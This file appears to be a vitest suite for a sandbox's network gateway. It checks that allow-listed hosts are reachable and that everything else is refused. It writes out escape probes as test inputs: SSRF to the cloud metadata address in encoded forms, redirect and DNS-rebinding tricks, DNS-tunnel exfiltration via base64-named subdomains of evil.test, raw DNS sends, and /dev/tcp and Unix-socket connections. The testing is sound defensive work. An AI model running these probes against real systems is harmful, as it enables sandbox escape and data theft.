@@ -1,0 +1,248 @@
+/** What leaves the sandbox: with the programs people use, and with those that look for a way round. */
+import { once } from "node:events";
+import { existsSync } from "node:fs";
+import { createServer, type Server } from "node:net";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { claimFor } from "./support/gateway.ts";
+import { execute } from "./support/host.ts";
+import { makeRegistries } from "./support/registries.ts";
+import { allowing, publicAddress, TestInternet } from "./support/test-internet.ts";
+
+const registries = makeRegistries("https://allowed.test");
+const internet = new TestInternet({
+  names: {
+    "allowed.test": [[publicAddress]],
+    "other.test": [[publicAddress]],
+    "rebound.test": [[publicAddress], ["169.254.169.254"]],
+    "inside.test": [[publicAddress, "10.0.0.1"]],
+  },
+  serve: (request, response) => {
+    const [path] = (request.url ?? "").split("?");
+    if (path === "/hello") return void response.end(`hello from ${request.headers.host}\n`);
+    if (path !== "/redirect") return registries.serve(request, response);
+    response.writeHead(302, { location: "http://169.254.169.254/computeMetadata/v1/" }).end();
+  },
+});
+const names = "allowed.test:443 allowed.test:80 rebound.test:80 inside.test:80".split(" ");
+const claimed = internet.claim(allowing(...names));
+const options = { timeout: 60_000 };
+
+beforeAll(async () => void (await internet.open()));
+afterAll(() => {
+  internet.close();
+  registries.close();
+});
+
+function run(script: string, changes = claimed, mode: "A" | "B" = "A") {
+  return execute(claimFor(script, changes), mode, { environment: internet.environment });
+}
+
+const fetchIn = (url: string) =>
+  `fetch("${url}").then((r) => r.text()).then((t) => console.log("node:", t.trim()))
+    .catch((e) => console.log("node:", (e.cause ?? e).message))`;
+const python = (url: string) => `
+import urllib.request
+try: print("python:", urllib.request.urlopen("${url}", timeout=5).read().decode().strip())
+except Exception as e: print("python:", e)`;
+
+/** Each prints what it got; one that isn't installed in this machine's /usr is left out. */
+const clients = [
+  {
+    program: "curl",
+    script: "curl -sS https://allowed.test/hello",
+    prints: "hello from allowed.test",
+  },
+  {
+    program: "curl",
+    script: "curl -sS http://allowed.test/hello",
+    prints: "hello from allowed.test",
+  },
+  {
+    program: "git",
+    script: "git clone -q https://allowed.test/repository.git && cat repository/greeting.txt",
+    prints: "hello from git",
+  },
+  {
+    program: "pip3",
+    script: `pip3 install -q --disable-pip-version-check --break-system-packages --target packages \
+      --index-url https://allowed.test/simple greeting 2>&1 &&
+      PYTHONPATH=packages python3 -c 'import greeting; print(greeting.text)'`,
+    prints: "hello from pip",
+  },
+  {
+    program: "npm",
+    script: `npm install --silent --no-audit --no-fund --no-update-notifier \
+      --registry https://allowed.test greeting && node -e 'console.log(require("greeting"))'`,
+    prints: "hello from npm",
+  },
+  {
+    program: "python3",
+    script: `python3 -c '${python("https://allowed.test/hello")}'`,
+    prints: "python: hello from allowed.test",
+  },
+  {
+    program: "node",
+    script: `node -e '${fetchIn("https://allowed.test/hello")}'`,
+    prints: "node: hello from allowed.test",
+  },
+  {
+    program: "node",
+    script: `node -e '${fetchIn("http://allowed.test/hello")}'`,
+    prints: "node: hello from allowed.test",
+  },
+].filter(({ program }) => program === "node" || existsSync(`/usr/bin/${program}`));
+
+describe("NET-2 an allow-list", options, () => {
+  test("lets the programs through that people use, as they are", async () => {
+    const { gateway } = await run(clients.map(({ script }) => script).join("\n"));
+    const lines = (gateway.settled?.output ?? "").trim().split("\n");
+    expect(lines).toEqual(clients.map(({ prints }) => prints));
+    expect(gateway.egress.every(({ verdict }) => verdict === "allowed")).toBe(true);
+    expect(gateway.egress.some(({ receivedBytes }) => receivedBytes > 1_000)).toBe(true);
+  });
+
+  test("NET-4 F9 tells each of them why not, at once", async () => {
+    const { gateway } = await run(`
+      curl -sS http://other.test/; curl -sSv https://other.test/ 2>&1 | grep '< HTTP'
+      git clone -q https://other.test/x 2>&1; python3 -c '${python("https://other.test/")}'
+      node -e '${fetchIn("https://other.test/")}'; exit 1`);
+    const output = gateway.settled?.output ?? "";
+    expect(output).toContain('"rule":"host_not_allowed"');
+    expect(output).toContain("403 The network policy doesn't allow this host (host_not_allowed)");
+    expect(output).toMatch(/fatal: unable to access .*response 403/);
+    expect(output).toMatch(/python: .*403 The network policy doesn't allow this host/);
+    expect(output).toMatch(/node: /);
+    expect(output).toMatch(/The network policy refused: other.test:80 .*; other.test:443 .*×4/);
+    expect(gateway.egress).toHaveLength(5);
+    for (const attempt of gateway.egress) {
+      expect(attempt).toMatchObject({ host: "other.test", rule: "host_not_allowed", sentBytes: 0 });
+      expect(attempt.durationMs).toBeLessThan(1_000);
+    }
+    expect(internet.dns.asked).not.toContain("other.test");
+  });
+
+  test("EXE-6 F8 leads nowhere inside, through redirects and rebinding neither", async () => {
+    const { gateway } = await run(`
+      show() { curl -s -m 10 --noproxy '' -o /dev/null -w '%{http_code} %header{x-paddock-rule}\\n' "$@"; }
+      show -L http://allowed.test/redirect
+      show http://rebound.test/hello; show http://rebound.test/hello; show http://inside.test/hello
+      for host in 169.254.169.254 2852039166 0xa9fea9fe '[::ffff:169.254.169.254]' 127.0.0.1 10.0.0.1
+      do show "http://$host/"; done
+      show http://metadata.google.internal/`);
+    const inside = "403 private_address";
+    expect((gateway.settled?.output ?? "").trim().split("\n")).toEqual([
+      inside,
+      "200 ",
+      ...[inside, inside],
+      ...Array<string>(6).fill(inside),
+      "403 private_name",
+    ]);
+  });
+});
+
+describe("NET-3 F7 names", options, () => {
+  test("are resolved outside, and for whom they are permitted: no tunnel of questions", async () => {
+    const before = internet.dns.asked.length;
+    const { gateway } = await run(`
+      for n in 1 2 3; do
+        curl -sS -m 5 "https://c2VjcmV0$n.evil.test/" 2>&1 | grep -c 403
+        getent hosts "c2VjcmV0$n.evil.test" || echo unresolved
+        python3 -c 'import socket; s = socket.socket(2, 2); s.settimeout(0.2)
+try: s.sendto(b"question", ("8.8.8.8", 53)); print("sent")
+except OSError as e: print(e.strerror)'
+      done`);
+    const round = ["1", "unresolved", "Network is unreachable"];
+    expect((gateway.settled?.output ?? "").trim().split("\n")).toEqual([
+      ...round,
+      ...round,
+      ...round,
+    ]);
+    expect(internet.dns.asked.slice(before)).toEqual([]);
+  });
+});
+
+describe("NET-1 what an execution reaches", options, () => {
+  const abstractName = `\0paddock-${process.pid}`;
+  const [onPort, onName]: [Server, Server] = [createServer(), createServer()];
+
+  beforeAll(async () => {
+    for (const server of [onPort, onName])
+      server.on("connection", (socket) => socket.end("reached"));
+    await once(onPort.listen(0, "127.0.0.1"), "listening");
+    await once(onName.listen(abstractName), "listening");
+  });
+  afterAll(() => {
+    onPort.close();
+    onName.close();
+  });
+
+  const tcp = (port: string | number) =>
+    `(exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3 && echo open) 2>&1 | grep -o 'refused\\|open' | head -1`;
+
+  test("is no port of the host, its gateway's neither, and no socket without a file", async () => {
+    const host = onPort.address();
+    const port = typeof host === "object" && host !== null ? host.port : 0;
+    const { gateway } = await run(`
+      ${tcp(port)}
+      ${tcp(internet.localPort(443))}
+      curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '' http://127.0.0.1:${port}/
+      python3 -c 'import socket
+try: socket.socket(socket.AF_UNIX).connect("\\0paddock-${process.pid}"); print("open")
+except OSError as e: print("refused")'
+      env | grep -ci gateway; true`);
+    const lines = (gateway.settled?.output ?? "").trim().split("\n");
+    expect(lines).toEqual(["refused", "refused", "403", "refused", "0"]);
+  });
+
+  test("is no other execution, while both run in an open network", async () => {
+    const open = internet.claim({ mode: "internet" });
+    const listener = `python3 -c 'import socket
+s = socket.socket(); s.bind(("0.0.0.0", 7777)); s.listen(); print("listening", flush=True)
+u = socket.socket(socket.AF_UNIX); u.bind("\\0paddock-execution"); u.listen()
+s.settimeout(20)
+try: s.accept(); print("reached")
+except OSError: print("nobody came")' & pid=$!; while [ ! -e stop ] && kill -0 $pid; do sleep 0.1; done`;
+    const seeker = `${tcp(7777)}
+      curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '' http://127.0.0.1:7777/
+      python3 -c 'import socket
+try: socket.socket(socket.AF_UNIX).connect("\\0paddock-execution"); print("open")
+except OSError as e: print("refused")'`;
+    let sought = "";
+    const first = await execute(claimFor(listener, open), "A", {
+      environment: internet.environment,
+      during: async (gateway) => {
+        await gateway.until(() => gateway.text().includes("listening"));
+        const { gateway: second } = await run(seeker, open);
+        sought = second.settled?.output ?? "";
+        gateway.stop = "cancelled";
+      },
+      prepare: (gateway) => {
+        const claim = claimFor(listener, open);
+        gateway.claim = { ...claim, lease: { ...claim.lease, heartbeatIntervalMs: 200 } };
+      },
+    });
+    expect(sought).toBe("refused\n403\nrefused\n");
+    expect(first.gateway.settled?.output).not.toContain("reached");
+    expect(first.leftovers).toEqual([]);
+  });
+
+  test("is nothing at all with `none`, the proxy neither", async () => {
+    const { gateway } = await run(
+      `${tcp(3128)}; env | grep -ci proxy; curl -sS http://1.1.1.1/ 2>&1`,
+      {
+        ...claimed,
+        network: claimFor("").network,
+      },
+    );
+    expect(gateway.settled?.output).toMatch(/^refused\n0\n.*Couldn't connect|Failed to connect/);
+    expect(gateway.egress).toEqual([]);
+  });
+
+  test("is the same in mode B, and of the door nothing is left", async () => {
+    const script = "curl -sS https://allowed.test/hello; curl -sS -o /dev/null http://other.test/";
+    const { gateway, leftovers } = await run(script, claimed, "B");
+    expect(gateway.settled?.output).toContain("hello from allowed.test\n");
+    expect(gateway.egress.map(({ verdict }) => verdict)).toEqual(["allowed", "refused"]);
+    expect(leftovers).toEqual([]);
+  });
+});
